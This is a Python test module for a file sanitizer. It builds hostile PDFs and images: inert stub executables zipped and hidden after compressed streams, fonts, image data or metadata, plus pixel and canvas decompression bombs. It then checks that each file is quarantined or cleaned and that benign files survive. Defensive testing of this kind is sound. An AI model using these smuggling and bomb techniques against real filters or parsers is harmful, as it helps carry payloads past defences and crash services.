    data = jp2[:at] + struct.pack(">I", 8 + len(XMP)) + b"xml " + XMP + jp2[at:] + _zip("payload.exe", b"MZ" + b"\x00" * 200)
    stream = _image(pdf, data, Name.JPXDecode)
    stream.Width, stream.Height, stream.ColorSpace = 64, 48, Name.DeviceRGB
    return stream


def _raw_stream(pdf: pikepdf.Pdf, raw: bytes, filters: object, **keys: object) -> Stream:
    stream = Stream(pdf, raw)
    stream.Filter = filters
    for key, value in keys.items():
        stream[Name("/" + key)] = value
    return stream


def _trailing(filters: str, encode: Callable[[bytes], bytes], image: bool) -> Callable[[], bytes]:
    """A stream whose data ends (deflate's final block, ``>``, ``~>``, run-length's 128) before a ZIP."""

    def change(pdf: pikepdf.Pdf) -> None:
        tail = _zip("payload.exe", b"MZ" + b"\x00" * 100)
        if image:
            raw = encode(bytes(range(64))) + tail
            _xobject(lambda pdf: _raw_stream(pdf, raw, Name(filters), Type=Name.XObject, Subtype=Name.Image,
                                             Width=8, Height=8, ColorSpace=Name.DeviceGray, BitsPerComponent=8))(pdf)
        else:
            pdf.pages[0].obj.Contents = _raw_stream(pdf, encode(b"BT /F1 24 Tf 72 700 Td (Hello) Tj ET") + tail,
                                                    Name(filters))

    def build() -> bytes:
        pdf = _base()
        change(pdf)
        return _save(pdf, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)

    return build


GLYPHLESS_TTF = Path("/usr/share/tesseract-ocr/5/tessdata/pdf.ttf")


def _truetype_then_zip(pdf: pikepdf.Pdf) -> None:
    """A real TrueType program (Tesseract's glyphless font) with a ZIP after its last table."""
    font = GLYPHLESS_TTF.read_bytes() + _zip("payload.exe", b"MZ" + b"\x00" * 100)
    _font_file("FontFile2", font, Length1=len(font))(pdf)
    pdf.pages[0].obj.Resources.Font.F1.Subtype = Name.TrueType


def _orphan_zip() -> bytes:
    """An uncompressed stream no object refers to, holding a ZIP."""
    zipped = _zip("payload.exe", b"MZ" + b"\x00" * 100)
    objects = {k: v for k, v in _PAGE_OBJECTS.items() if k != 6}
    objects[6] = b"<< /Length %d >>\nstream\n%s\nendstream" % (len(zipped), zipped)
    return _raw(objects)


def _ccitt_then_zip(pdf: pikepdf.Pdf) -> Stream:
    """Real CCITT group 4 data (Pillow's TIFF writer) with a ZIP after it: the decoder stops at its end."""
    out = io.BytesIO()
    Image.new("1", (64, 64), 1).save(out, "TIFF", compression="group4")
    with Image.open(io.BytesIO(out.getvalue())) as tiff:
        offset, length = tiff.tag_v2[273][0], tiff.tag_v2[279][0]
    data = out.getvalue()[offset:offset + length] + _zip("payload.exe", b"MZ" + b"\x00" * 100)
    return _raw_stream(pdf, data, Name.CCITTFaxDecode, Type=Name.XObject, Subtype=Name.Image, Width=64, Height=64,
                       ImageMask=True, DecodeParms=Dictionary(K=-1, Columns=64, Rows=64, BlackIs1=False))


def _run_length(data: bytes) -> bytes:
    return b"".join(bytes([len(data[i:i + 128]) - 1]) + data[i:i + 128] for i in range(0, len(data), 128)) + b"\x80"


MORE_PDF_CASES.append(_pdf_case("tree-loops-fake-page", _pdf(_tree_loops)))
MORE_PDF_CASES += [
    _pdf_case("flate-content-then-zip", _trailing("/FlateDecode", zlib.compress, image=False)),
    _pdf_case("flate-image-then-zip", _trailing("/FlateDecode", zlib.compress, image=True)),
    _pdf_case("ahx-image-then-zip", _trailing("/ASCIIHexDecode", lambda d: d.hex().encode() + b">", image=True)),
    _pdf_case("a85-content-then-zip", _trailing("/ASCII85Decode", lambda d: __import__("base64").a85encode(d) + b"~>",
                                                image=False)),
    _pdf_case("runlength-image-then-zip", _trailing("/RunLengthDecode", _run_length, image=True)),
    _pdf_case("orphan-stream-zip", _orphan_zip),
    _pdf_case("ccitt-image-then-zip", _pdf(_xobject(_ccitt_then_zip))),
    _pdf_case("info-title-zip", _pdf(lambda pdf: pdf.docinfo.__setitem__(Name.Title, String(_zip())))),
]
if GLYPHLESS_TTF.exists():
    MORE_PDF_CASES.append(_pdf_case("truetype-font-then-zip", _pdf(_truetype_then_zip)))
MORE_PDF_CASES.append(_pdf_case("jpx-image-carrying-zip-xml", _pdf(_xobject(_jpx_carrier))))
MORE_PDF_CASES.append(_pdf_case("dct-image-carrying-zip-exif-html", _pdf(_xobject(_jpeg_carrier))))

MORE_PICTURE_CASES = [
    Case("webp-icc-odd-tags", "webp-icc-odd-tags.webp", lambda: _webp(icc_profile=ICC_ODD)),
    Case("tiff-icc-odd-tags", "tiff-icc-odd-tags.tif", lambda: _tiff(icc_profile=ICC_ODD)),
    Case("png-apng-lying-actl", "png-apng-lying-actl.png", _apng_lying),
    Case("webp-animated-canvas-bomb", "webp-animated-canvas-bomb.webp", _animated_webp_canvas_bomb),
    Case("tiff-pixel-bomb", "tiff-pixel-bomb.tif", _tiff_bomb),
    Case("bmp-rle-pixel-bomb", "bmp-rle-pixel-bomb.bmp", _bmp_bomb),
    Case("jpeg-3000-scans", "jpeg-3000-scans.jpg", _jpeg_many_scans),
]

CASES = PDF_CASES + MORE_PDF_CASES + PICTURE_CASES + MORE_PICTURE_CASES
# name → what crossed (filled from the runs against the current tree; each one a failing test)
CROSSINGS: dict[str, str] = {}
REASONS_NOT_ACCEPTED = {"operational-error", "timeout"}  # a hang, or the appliance failing
BENIGN_PDFS = ["libtasn1.pdf", "pdfjs_compressed.tracemonkey-pldi-09.pdf"]
BENIGN_PHOTOS = ["real_canon_hdr_NO.jpg", "real_HMD_Nokia_8.3_5G.jpg"]


@pytest.fixture(scope="module")
def batch(tmp_path_factory: pytest.TempPathFactory) -> runner.Batch:
    """Every case and the benign controls through the real CLI, two runs side by side."""
    folder = tmp_path_factory.mktemp("atkmedia")
    for case in CASES:
        (folder / case.filename).write_bytes(case.build())
    for name in BENIGN_PDFS:
        (folder / name).write_bytes((BENCH / "pdf" / name).read_bytes())
    for name in BENIGN_PHOTOS:
        (folder / name).write_bytes((BENCH / "photos" / name).read_bytes())
    return runner.sanitize_side_by_side(folder, [c.filename for c in CASES] + BENIGN_PDFS + BENIGN_PHOTOS)


def _outcome(batch: runner.Batch, filename: str) -> tuple[dict, bytes | None]:
    result = batch.results.get(filename)
    assert result is not None, f"no result line for {filename}; stderr: {batch.stderr[-2000:]}"
    assert result["duration_ms"] < SECONDS_LIMIT * 1000, f"took {result['duration_ms']} ms"
    assert result.get("reason") not in REASONS_NOT_ACCEPTED, f"{result['reason']}: {result.get('message')}"
    output = batch.output(filename)
    return result, output.read_bytes() if output else None


@pytest.mark.parametrize(
    "case",
    [pytest.param(c, id=c.name, marks=[pytest.mark.xfail(strict=True, reason=CROSSINGS[c.name])]
                  if c.name in CROSSINGS else []) for c in CASES],
)
def test_attack_is_held_or_released_clean(case: Case, batch: runner.Batch) -> None:
    result, released = _outcome(batch, case.filename)
    if released is None:
        assert result["verdict"] == "quarantined", result
        return
    findings = inspect(result["output"], released, (batch.folder / case.filename).read_bytes())
    assert findings == [], f"released {result['output']} with: {findings}"


# inputs the inspector itself accepts: shapes that are no attack on their own (animation, pages,
# CMYK), input that the inspector's own reader resolves harmlessly (a free object is null), and
# cases whose point is the time or the depth a parser spends, not what it keeps
INPUTS_ACCEPTED = {
    "jbig2-globals", "free-object-referenced", "form-draws-itself", "deep-array-400-kept-key", "deep-array-20000",
    "jpeg-cmyk-adobe", "png-apng-frames", "gif-animated", "tiff-three-pages", "webp-animated",
    "png-apng-lying-actl", "jpeg-3000-scans",
    "info-title-zip",  # pikepdf writes the binary title in hex; the case asks whether the output writes it raw
}


@pytest.mark.parametrize("case", [c for c in CASES if c.name not in INPUTS_ACCEPTED], ids=lambda c: c.name)
def test_inspector_refuses_the_hostile_input_itself(case: Case) -> None:
    """The inspector is no rubber stamp: each hostile file, judged as it was sent, is refused."""
    data = case.build()
    extension = case.filename.rsplit(".", 1)[-1]
    assert inspect(case.filename if extension != "heic" else "x.heic", data, data) != []


def test_no_traceback(batch: runner.Batch) -> None:
    assert "Traceback" not in batch.stderr, batch.stderr[-3000:]
    assert batch.returncode in (0, 1), (batch.returncode, batch.stderr[-2000:])


@pytest.mark.parametrize("name", BENIGN_PDFS)
def test_benign_pdf_keeps_pages_and_text(name: str, batch: runner.Batch) -> None:
    result, released = _outcome(batch, name)
    assert released is not None, result
    assert inspect_pdf(released) == []
    before = pdfium.PdfDocument((BENCH / "pdf" / name).read_bytes())
    after = pdfium.PdfDocument(released)
    try:
        assert len(after) == len(before) > 0
        for n in range(len(before)):
            text_before = before[n].get_textpage().get_text_range()
            text_after = after[n].get_textpage().get_text_range()
            assert text_after == text_before and (n or text_before.strip()), f"page {n + 1}"
            assert after[n].get_size() == pytest.approx(before[n].get_size())
    finally:
        before.close()
        after.close()


def _jbig2_scan() -> bytes:
    """A benign scan-like PDF: one 64 × 64 JBIG2 image (ISO 14492 embedded stream: a page information
    segment and an immediate generic region, MMR-coded with Pillow's CCITT group 4 writer) with a black
    bar, as multifunction printers write scans."""
    bar = Image.new("1", (64, 64), 1)
    bar.paste(0, (10, 20, 50, 30))
    out = io.BytesIO()
    bar.save(out, "TIFF", compression="group4")
    with Image.open(io.BytesIO(out.getvalue())) as tiff:
        offset, length = tiff.tag_v2[273][0], tiff.tag_v2[279][0]
    mmr = out.getvalue()[offset:offset + length]

    def segment(number: int, kind: int, data: bytes) -> bytes:
        return struct.pack(">IBBBI", number, kind, 0, 1, len(data)) + data

    data = (segment(0, 48, struct.pack(">IIIIBH", 64, 64, 0, 0, 0, 0))
            + segment(1, 38, struct.pack(">IIIIB", 64, 64, 0, 0, 0) + b"\x01" + mmr))
    pdf = _base()
    _xobject(lambda pdf: _raw_stream(pdf, data, Name.JBIG2Decode, Type=Name.XObject, Subtype=Name.Image, Width=64,
                                     Height=64, ColorSpace=Name.DeviceGray, BitsPerComponent=1))(pdf)
    return _save(pdf, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def _dark_pixels(data: bytes) -> int:
    """Dark pixels pdfium draws where the scan's image sits (72..172 × 400..500 in PDF units)."""
    document = pdfium.PdfDocument(data)
    try:
        picture = document[0].render(scale=1).to_pil().convert("L").crop((72, 292, 172, 392))
        return sum(1 for value in picture.tobytes() if value < 128)
    finally:
        document.close()


def test_jbig2_scan_is_released(tmp_path: Path) -> None:
    data = _jbig2_scan()
    assert _dark_pixels(data) > 300  # pdfium draws the bar: the file is sound
    (tmp_path / "scan.pdf").write_bytes(data)
    result, released = _outcome(runner.sanitize(tmp_path, ["scan.pdf"]), "scan.pdf")
    assert result["reason"] != "sanitize-failed", result["message"]
    assert released is not None and inspect_pdf(released) == []
    assert _dark_pixels(released) > 300


@pytest.mark.parametrize("name", BENIGN_PHOTOS)
def test_benign_photo_keeps_its_size(name: str, batch: runner.Batch) -> None:
    source = (BENCH / "photos" / name).read_bytes()
    result, released = _outcome(batch, name)
    assert released is not None, result
    assert result["output"].endswith(".jpg")
    assert inspect_picture("jpg", released, source) == []
    with Image.open(io.BytesIO(released)) as image:
        assert image.format == "JPEG" and image.mode in ("RGB", "L", "CMYK")
